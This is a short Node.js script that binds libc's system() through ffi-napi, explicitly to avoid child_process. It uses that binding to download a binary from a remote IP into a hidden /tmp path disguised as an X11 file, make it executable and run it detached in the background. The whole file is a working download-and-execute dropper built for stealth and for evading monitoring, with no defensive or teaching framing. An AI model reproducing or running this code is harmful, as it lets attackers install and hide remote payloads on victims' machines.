// Binds libc's system() with ffi-napi and uses it to download and run a binary, avoiding child_process.
const ffi = require("ffi-napi");

const libc = ffi.Library("libc.so.6", {
  system: ["int", ["string"]],
  setsid: ["int", []],
});

const url = "http://203.0.113.12/bin/agent";
const out = "/tmp/.X11-agent";

libc.setsid();
libc.system(`curl -fsSL ${url} -o ${out} && chmod +x ${out} && nohup ${out} >/dev/null 2>&1 &`);
